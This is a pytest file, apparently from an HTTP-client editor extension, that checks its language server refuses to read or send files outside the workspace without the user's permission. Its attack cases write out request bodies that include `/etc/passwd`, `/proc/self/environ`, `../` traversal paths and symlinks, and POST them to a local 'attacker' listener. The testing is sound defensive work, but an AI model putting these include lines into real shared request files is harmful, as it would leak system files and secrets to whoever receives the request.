"""Body includes outside the workspace folder, through the real language server: a shared `.http`
file whose body reads `/etc/passwd`, `../../outside/file`, `/proc/self/environ` or a symlink to
outside is not read or sent until the user allows that path. An attacker's listener (an httpbed
of the test's own) checks that no file content arrived; the editor's message names the file.
Legitimate use keeps working: inside files without a question, an allowed file without a second
one (the answer kept in SecretStorage), a refused one asked about again."""

from __future__ import annotations

import json
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from oauth_http.lsp import methods
from oauth_http.oauth.secret_keys import allowed_paths_name
from oauth_http.workspace.include_permission import ALLOW

from tests.httpbed import RunningBed, start_httpbed
from tests.lsp.editor import Editor, EditorClient, ServerOptions, as_dict

FILE_MARKER = f"outside-file-{uuid.uuid4().hex}"
ENV_MARKER = f"server-environment-{uuid.uuid4().hex}"


@pytest.fixture
def server_options() -> ServerOptions:
    """A server whose environment holds a marker, to see whether /proc/self/environ leaks."""
    return ServerOptions(env={"OAUTH_HTTP_TEST_MARKER": ENV_MARKER})


@pytest.fixture
def attacker() -> Iterator[RunningBed]:
    with start_httpbed() as running:
        yield running


@pytest.fixture
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file outside the workspace folder (a sibling of it) holding a unique marker."""
    secret = tmp_path_factory.mktemp("outside") / "secret.txt"
    secret.write_text(FILE_MARKER, encoding="utf-8")
    return secret


def _received(attacker: RunningBed) -> bytes:
    return b"\n".join(
        request.body + repr(request.headers).encode() + request.raw_query.encode()
        for request in attacker.requests_seen
    )


def _leak(attacker: RunningBed, body: str) -> str:
    return f"POST {attacker.url}/echo\nContent-Type: text/plain\n\n{body}\n"


def _attacks(workspace: Path, outside: Path) -> dict[str, tuple[str, str]]:
    """Each attack: the body's include line, and the real path the user must be told about."""
    api = workspace / "api"
    api.mkdir(exist_ok=True)
    link = workspace / "notes.txt"
    if not link.exists():
        link.symlink_to(outside)
    real = str(outside.resolve())
    return {
        "absolute": (f"< {outside}", real),
        "dot-dot": (f"< {os.path.relpath(outside, api)}", real),
        "symlink": ("<@ ../notes.txt", real),
        "etc-passwd": ("< /etc/passwd", "/etc/passwd"),
        "proc-environ": ("< /proc/self/environ", "/environ"),
        "multipart": (
            f'--B\nContent-Disposition: form-data; name="f"; filename="p"\n\n< {outside}\n--B--',
            real,
        ),
    }


@pytest.mark.parametrize(
    "attack", ["absolute", "dot-dot", "symlink", "etc-passwd", "proc-environ", "multipart"]
)
async def test_an_outside_include_is_not_read_or_sent_without_leave(
    client: EditorClient, workspace: Path, outside: Path, attacker: RunningBed, attack: str
) -> None:
    editor = client.editor
    line, named = _attacks(workspace, outside)[attack]
    uri = client.open(workspace / "api" / "leak.http", _leak(attacker, line))
    record = await client.send(uri, line=0)  # editor.choices is empty: the message is dismissed

    assert attacker.requests_seen == [], "nothing at all was sent"
    assert len(editor.offered) == 1 and named in editor.offered[0], editor.offered
    assert "This request's body reads " in editor.offered[0]
    assert "outside the workspace folder" in editor.offered[0]
    error = record["error"]
    assert error is not None and error["kind"] == "include_outside", record
    assert named in error["message"] and "was not sent" in error["message"]
    assert ALLOW in error["hint"]
    shown = json.dumps(record)
    assert FILE_MARKER not in shown and ENV_MARKER not in shown and "root:" not in shown

    await client.send(uri, line=0)
    assert len(editor.offered) == 2, "a refused path is asked about again"
    assert attacker.requests_seen == []
    assert not any(key.endswith(":allowedPaths") for key in editor.vault)


async def test_an_include_inside_the_workspace_is_sent_without_a_question(
    client: EditorClient, editor: Editor, workspace: Path, attacker: RunningBed
) -> None:
    (workspace / "bodies").mkdir()
    (workspace / "bodies" / "status.json").write_text('{"status": "inside"}', encoding="utf-8")
    (workspace / "api").mkdir()
    (workspace / "api" / "linked.json").symlink_to(workspace / "bodies" / "status.json")
    uri = client.open(
        workspace / "api" / "post.http",
        _leak(attacker, "< ../bodies/status.json")
        + "\n###\n"
        + _leak(attacker, "< linked.json")
        + "\n###\n"
        + _leak(attacker, "< bodies/status.json"),  # found in the workspace folder
    )
    for line in (0, 5, 10):
        record = await client.send(uri, line=line)
        assert record["status"] == 200, record
    assert [request.body for request in attacker.requests_seen] == [b'{"status": "inside"}'] * 3
    assert editor.offered == []


async def test_an_allowed_outside_file_is_sent_and_not_asked_about_again(
    client: EditorClient, editor: Editor, workspace: Path, outside: Path, attacker: RunningBed
) -> None:
    editor.choices = [ALLOW]
    uri = client.open_http("upload.http", _leak(attacker, f"< {outside}"))
    first = await client.send(uri, line=0)
    assert first["status"] == 200 and len(editor.offered) == 1, first
    stored = editor.vault[allowed_paths_name(workspace.as_uri())]
    assert json.loads(stored) == [str(outside.resolve())]

    second = await client.send(uri, line=0)
    assert second["status"] == 200 and len(editor.offered) == 1, "not asked again"
    assert [request.body for request in attacker.requests_seen] == [FILE_MARKER.encode()] * 2


async def test_the_stored_answer_holds_for_a_new_server_in_the_same_workspace(
    client: EditorClient, editor: Editor, workspace: Path, outside: Path, attacker: RunningBed
) -> None:
    editor.vault[allowed_paths_name(workspace.as_uri())] = json.dumps([str(outside.resolve())])
    uri = client.open_http("upload.http", _leak(attacker, f"< {outside}"))
    record = await client.send(uri, line=0)
    assert record["status"] == 200 and editor.offered == [], record
    assert attacker.requests_seen[0].body == FILE_MARKER.encode()


async def _curl(client: EditorClient, uri: str) -> dict[str, Any]:
    return as_dict(await client.execute(methods.CURL_REQUEST, {"uri": uri, "line": 0}))


async def test_copy_as_curl_does_not_read_an_outside_file_either(
    client: EditorClient, editor: Editor, workspace: Path, outside: Path, attacker: RunningBed
) -> None:
    uri = client.open_http("copy.http", _leak(attacker, f"< {outside}"))
    refused = await _curl(client, uri)
    assert set(refused) == {"error"} and str(outside.resolve()) in refused["error"], refused
    assert FILE_MARKER not in json.dumps(refused)
    assert len(editor.offered) == 1 and str(outside.resolve()) in editor.offered[0]

    editor.choices = [ALLOW]
    allowed = await _curl(client, uri)
    assert allowed["bodyText"] == FILE_MARKER, allowed
    assert attacker.requests_seen == [], "copying sends nothing"


async def test_a_diagnostic_warns_of_an_outside_include_before_any_send(
    client: EditorClient, workspace: Path, outside: Path, attacker: RunningBed
) -> None:
    (workspace / "inside.json").write_text("{}", encoding="utf-8")
    text = _leak(attacker, f"< {outside}") + "\n###\n" + _leak(attacker, "< inside.json")
    uri = client.open_http("review.http", text)
    diagnostics = await client.diagnostics(uri)
    warned = [d for d in diagnostics if d.code == "include-outside"]
    assert [d.range.start.line for d in warned] == [3], diagnostics
    assert str(outside.resolve()) in warned[0].message
    assert attacker.requests_seen == []
